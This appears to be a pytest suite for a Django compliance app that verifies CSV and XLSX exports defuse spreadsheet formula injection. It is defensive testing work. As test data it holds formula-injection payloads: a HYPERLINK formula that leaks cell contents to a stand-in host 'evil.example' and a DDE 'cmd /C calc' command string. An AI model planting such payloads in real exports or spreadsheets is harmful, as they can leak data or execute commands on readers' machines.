"""Every CSV and XLSX export is spreadsheet-safe: text that starts like a formula gets a leading
apostrophe (OWASP's advice against CSV / formula injection), numbers stay numbers, and no XLSX
cell is ever a formula."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from aims.checks.models import Check, CheckRun, RunStatus
from aims.checks.samples import BIASED
from aims.core.exports import SafeCSVWriter, append_safe_row, safe_cell
from aims.inventory.models import AISystem
from aims.inventory.services import save_system
from aims.organizations.models import Membership, Role
from aims.soa.models import Applicability, SoAEntry
from aims.soa.services import update_entry
from aims.trail.models import AuditEvent

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
JUSTIFICATION = "+cmd|' /C calc'!A0 runs on every auditor's machine"


def url(world, view, **kwargs):
    return reverse(view, kwargs={"org": world.org.slug, **kwargs})


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Acme Lending", "Acme Lending"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("number", [-1, -0.25, 0, 3, 1.5])
def test_real_numbers_stay_numbers(number):
    assert safe_cell(number) == number and type(safe_cell(number)) is type(number)


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    SafeCSVWriter(out).writerows([["=1+1", -2, "ok"], ["@x", 0.5, None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-2", "ok"],
        ["'@x", "0.5", ""],
    ]


def test_xlsx_rows_are_text_never_formulas_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    append_safe_row(sheet, ["=1+1", -3, "bell\x07", "plain"])
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(out).active.iter_rows(values_only=False))[0]
    assert [c.data_type for c in cells] == ["s", "n", "s", "s"]
    assert [c.value for c in cells] == ["'=1+1", -3, "bell\ufffd", "plain"]


@pytest.fixture
def hostile_soa(world):
    world.org.name = HYPERLINK
    world.org.save()
    world.manager.first_name, world.manager.last_name = "-1+1", ""
    world.manager.save()
    entry = SoAEntry.objects.get(organization=world.org, control__ref="A.2.2")
    entry.applicability = Applicability.EXCLUDED
    entry.justification = JUSTIFICATION
    entry.implementation = "@SUM(1+1)*cmd|' /C calc'!A0"
    entry.owner = world.manager
    update_entry(entry, actor=world.owner, risks=[])
    return entry


def test_the_soa_xlsx_has_no_formula_and_keeps_the_text(world, hostile_soa):
    response = world.client(world.auditor).get(url(world, "soa_export_xlsx"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(body(response)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert not any(str(cell.value).startswith(("=", "+", "-", "@")) for cell in cells)
    assert book["Document control"]["B2"].value == "'" + HYPERLINK
    texts = {cell.value for cell in cells}
    assert {"'" + JUSTIFICATION, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+1"} <= texts
    hostile_soa.refresh_from_db()
    assert hostile_soa.justification == JUSTIFICATION  # the record itself is unchanged


def test_the_soa_csv_neutralises_the_organization_name_and_justifications(world, hostile_soa):
    response = world.client(world.auditor).get(url(world, "soa_export_csv"))
    assert response.status_code == 200
    rows = csv_rows(response)
    row = next(r for r in rows if len(r) > 1 and r[1] == "A.2.2")
    named = dict(zip(rows[0], row, strict=True))
    assert named["Justification for exclusion"] == "'" + JUSTIFICATION
    assert named["Owner"] == "'-1+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    control = csv_rows(world.client(world.auditor).get(url(world, "soa_export_control_csv")))
    assert ["Organization", "'" + HYPERLINK] in control
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in control for cell in r)


def test_the_change_trail_csv_neutralises_usernames_like_minus_one_plus_one(world):
    hostile = get_user_model().objects.create_user(username="-1+1", password="x" * 20)
    Membership.objects.create(user=hostile, organization=world.org, role=Role.MANAGER)
    save_system(
        AISystem(organization=world.org, name="=1+1", purpose="p", intended_use="u"),
        actor=hostile,
    )
    assert AuditEvent.objects.filter(organization=world.org, actor_label="-1+1").exists()
    response = world.client(world.auditor).get(url(world, "audit_export_csv"))
    assert response.status_code == 200
    rows = csv_rows(response)
    header, events = rows[0], rows[1:]
    mine = [dict(zip(header, r, strict=True)) for r in events if r[2] == "'-1+1"]
    assert mine and mine[0]["record_label"] == "'=1+1"
    assert all(r[0].isdigit() for r in events)  # sequence numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_the_run_history_csv_neutralises_text_and_keeps_negative_values(world, credit_system):
    hostile = get_user_model().objects.create_user(username="@hostile", password="x" * 20)
    Membership.objects.create(user=hostile, organization=world.org, role=Role.CONTRIBUTOR)
    response = world.client(world.contributor).post(
        url(world, "check_create"),
        {
            "system": credit_system.pk,
            "name": "Parity",
            "kind": "fairness",
            "source_type": "upload",
            "label": "repaid",
            "prediction": "approved",
            "sensitive": "sex",
            "min_group_size": 30,
            "threshold": 0.5,
            "limits": "max dp_difference 0.1",
            "schedule": "manual",
            "is_active": "on",
            "data_file": SimpleUploadedFile(BIASED.name, BIASED.read_bytes()),
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    check = Check.objects.get(name="Parity")
    thresholds = [{"metric": "m", "value": -0.25, "limit": 0.1, "op": "max", "passed": True}]
    CheckRun.objects.create(
        definition=check,
        organization=world.org,
        status=RunStatus.ERROR,
        triggered_by=hostile,
        error=HYPERLINK,
        result={"thresholds": thresholds},
    )
    response = world.client(world.viewer).get(url(world, "check_runs_export", check_id=check.pk))
    assert response.status_code == 200
    rows = csv_rows(response)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["By"] == "'@hostile" and record["Error"] == "'" + HYPERLINK
    assert float(record["m"]) == -0.25  # a real number is not turned into text


def test_the_risk_register_and_system_csv_neutralise_titles(world, credit_system):
    credit_system.name = "-2+3"
    save_system(credit_system, actor=world.owner)
    response = world.client(world.auditor).get(url(world, "system_export"))
    assert response.status_code == 200
    assert "'-2+3" in [r[1] for r in csv_rows(response)[1:]]
    response = world.client(world.auditor).get(url(world, "risk_export_csv"))
    assert response.status_code == 200
